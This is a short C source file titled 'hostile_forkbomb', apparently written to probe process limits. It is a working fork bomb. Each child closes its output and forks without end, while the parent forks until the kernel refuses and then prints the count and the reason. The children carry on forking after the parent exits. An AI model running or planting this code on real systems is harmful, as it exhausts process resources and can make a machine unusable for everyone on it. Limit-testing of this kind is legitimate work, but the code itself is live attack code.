/* hostile_forkbomb: every child forks for ever; the parent forks until
 * the kernel refuses, says after how many and why, and exits. */
#include <errno.h>
#include <stdio.h>
#include <string.h>
#include <unistd.h>

int main(void) {
    for (long n = 0;; n++) {
        pid_t p = fork();
        if (p == 0) {
            close(0);
            close(1);
            close(2);
            for (;;) fork();
        }
        if (p < 0) {
            printf("fork refused after %ld forks: %s\n", n,
                   errno == EAGAIN ? "EAGAIN" : strerror(errno));
            return 0;
        }
    }
}
